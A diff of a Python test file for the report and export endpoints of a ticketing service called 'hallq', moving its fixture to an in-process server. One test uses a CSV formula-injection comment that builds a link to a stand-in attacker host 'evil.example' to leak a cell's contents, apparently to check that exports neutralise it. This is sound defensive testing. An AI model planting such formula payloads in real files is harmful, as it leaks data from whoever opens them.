@@ -1,4 +1,4 @@
-"""The report endpoints on a real `hallq serve`: who may read them, and what they answer."""
+"""The report endpoints (the hall in this process): who may read them, and what they answer."""
 from __future__ import annotations
 
 import csv
@@ -7,14 +7,16 @@ import io
 import pytest
 from openpyxl import load_workbook
 
+from tests.support.app import InProcessHall
+from tests.support.hall import hall_config
+
 READS = ["stats", "dashboard", "reports/tickets.csv", "reports/tickets.xlsx", "reports/summary.xlsx", "printers"]
 
 
 @pytest.fixture(scope="module")
-def hall(live_server, auth):
-    server = live_server(name="reports-api")
-    made = auth(server).make(staff=["lan"], supervisor=["boss"], admin=["root"], kiosk=["k1"])
-    return server, made
+def hall(tmp_path_factory):
+    with InProcessHall(tmp_path_factory.mktemp("reports-api"), hall_config()) as server:
+        yield server, server.auth.make(admin=["root"], staff=["lan"], supervisor=["boss"], kiosk=["k1"])
 
 
 @pytest.mark.parametrize("path", READS)
@@ -105,11 +107,11 @@ def test_long_exports(hall):
     assert resp.status_code == 422 and resp.json()["error"]["code"] == "invalid_value"
 
 
-def test_the_csv_a_supervisor_downloads_is_safe_and_readable(hall, auth):
+def test_the_csv_a_supervisor_downloads_is_safe_and_readable(hall):
     """Through the real API: a low rating whose comment is a formula, read back from the CSV."""
     server, made = hall
     boss, lan, kiosk = made["supervisor"]["boss"], made["staff"]["lan"], made["kiosk"]["k1"]
-    tablet = auth(server).rating("r-export")
+    tablet = server.auth.rating("r-export")
     comment = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem kết quả")'
     ticket = server.post("tickets", {"service": "DKKD"}, token=kiosk).json()["ticket"]
     assert server.post("counters/5/call", {"number": ticket["number"]}, token=lan).status_code == 200
